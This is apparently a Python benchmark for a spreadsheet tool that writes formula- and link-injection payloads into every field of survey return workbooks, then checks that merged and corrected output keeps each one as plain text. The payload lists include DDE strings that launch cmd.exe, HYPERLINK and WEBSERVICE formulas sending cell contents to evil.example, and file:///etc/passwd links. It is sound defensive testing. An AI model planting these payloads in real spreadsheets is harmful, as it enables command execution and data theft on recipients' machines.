"""Texts that programs take for formulas, links or commands, put through every text field into every sheet.

    uv run python -m tests.benchmarks.injection

Each payload is typed into every field of one return: who answers, evidence, actions, and the name of its file. In the
consolidated workbook and in the corrections no formula and no link may hold any of them, and each must stand there as
text, exact to the character.
"""

import argparse
import html
import re
import zipfile
from collections.abc import Iterator, Sequence
from pathlib import Path
from tempfile import TemporaryDirectory

from click.testing import CliRunner
from openpyxl import load_workbook

from xlkit.books.respondent import respondent_workbook
from xlkit.cli import main as xlkit
from xlkit.demo import assessments
from xlkit.form import xlsform
from xlkit.form.draft import Draft
from xlkit.round import identities
from xlkit.round.round import Recipient

STARTS = ("=", "+", "-", "@", "\t=", "\n=", " =", "'=", '"=', "＝", "{=", "%0A=", ";=", ",=", "0=")
BODIES = (
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://evil.example/?x="&A1,"click")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT("http://evil.example",A1),"//a")',
    'DDE("cmd";"/C calc";"a")',
    "SUM(A1:A9)",
    "'[evil.xlsx]Sheet1'!A1",
    'EXEC("calc")',
    'REGISTER.ID("a","b")',
    'INDIRECT("A1")',
    'IMAGE("http://evil.example/a.png")',
    "MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    'RTD("evil",,"a")',
    "A1",
    "@SUM(1)",
    "#REF!",
    "TRUE",
    "1E5",
    "</t></si><f>1</f>",
)
LINKS = (
    "http://evil.example",
    "https://evil.example/a?b=c",
    "ftp://evil.example",
    "mailto:a@evil.example",
    "file:///etc/passwd",
    "\\\\evil.example\\share\\a",
    "internal:'Cover'!A1",
    "external:c:\\evil.xlsx",
    "javascript:alert(1)",
    "http://evil.example/#" + "a" * 300,
)


def payloads(count: int) -> list[str]:
    """So many texts, each other than the rest."""
    made = [*LINKS, *(f"{start}{body}" for body in BODIES for start in STARTS)]
    return made[:count]


def write_returns(folder: Path, texts: Sequence[str]) -> None:
    """A return for each text, which stands in all of its fields."""
    instrument = xlsform.find(assessments.PROVIDERS)
    items = list(instrument.items)
    for number, text in enumerate(texts):
        who = Recipient(f"{text} {number}", text, text, locality=text, service_area=text, size=text)
        draft = Draft(
            answers={item.name: item.choices[number % 5].name for item in items[1:]},
            evidence={item.name: text for item in items if item.evidence},
            actions={items[1].name: ({"action": text, "owner": text, "status": text},)},
        )
        respondent_workbook.write(
            folder / f"{number:03}.xlsx",
            instrument,
            identities.issued(instrument, who, "Spring"),
            assessments.ROUND,
            draft,
        )


def formulas_and_links(path: Path) -> Iterator[str]:
    """Every formula of a workbook, and the target of every link that leads out of it."""
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            part = archive.read(name).decode(errors="replace")
            if name.startswith("xl/worksheets/sheet"):
                yield from (html.unescape(found) for found in re.findall(r"<f[^>]*>([^<]*)</f>", part))
                yield from (html.unescape(found) for found in re.findall(r"<formula[12]?>([^<]*)</formula", part))
            if name.endswith(".rels"):
                yield from (
                    html.unescape(found) for found in re.findall(r'Target="([^"]*)" TargetMode="External"', part)
                )


def texts_of(path: Path) -> set[str]:
    """Every text that stands in a cell; AssertionError where openpyxl takes one of them for a formula."""
    found: set[str] = set()
    for sheet in load_workbook(path):
        for row in sheet.iter_rows():
            found |= {cell.value for cell in row if cell.data_type == "s" and isinstance(cell.value, str)}
    return found


def judged(path: Path, texts: Sequence[str]) -> tuple[list[str], list[str]]:
    """The formulas and links that hold a payload, and the payloads that do not stand in any cell as they are."""
    telling = [text for text in texts if len(text) > 4]
    bad = [said for said in formulas_and_links(path) if any(text in said for text in telling)]
    there = texts_of(path)
    return bad, [text for text in texts if text not in there and text.strip() not in there]


def main(arguments: Sequence[str] | None = None) -> None:
    """Write, merge, correct and look."""
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--payloads", type=int, default=300, help="how many (300)")
    texts = payloads(parser.parse_args(arguments).payloads)
    with TemporaryDirectory() as made:
        folder, out, back = (Path(made) / name for name in ("returns", "consolidated.xlsx", "back"))
        folder.mkdir()
        write_returns(folder, texts)
        told = CliRunner().invoke(xlkit, ["merge", str(folder), "-o", str(out), "--as-at", "2027-04-06"])
        print(told.stdout.splitlines()[-2] if told.exit_code in (0, 3) else told.output)
        bad, missing = judged(out, texts)
        sheets = len(load_workbook(out, read_only=True).sheetnames)
        print(
            f"consolidated, {sheets} sheets: {len(texts)} payloads, "
            f"{len(bad)} in formulas or links, {len(missing)} not as they were"
        )
        CliRunner().invoke(xlkit, ["validate", str(folder), "--corrections", str(back)])
        written = sorted(back.iterdir())
        held = [
            said
            for path in written
            for said in formulas_and_links(path)
            if any(text in said for text in texts if len(text) > 4)
        ]
        print(f"{len(written)} corrections: {len(held)} payloads in formulas or links")
        for said in [*bad, *held, *missing][:10]:
            print(f"  {said!r}")


if __name__ == "__main__":
    main()
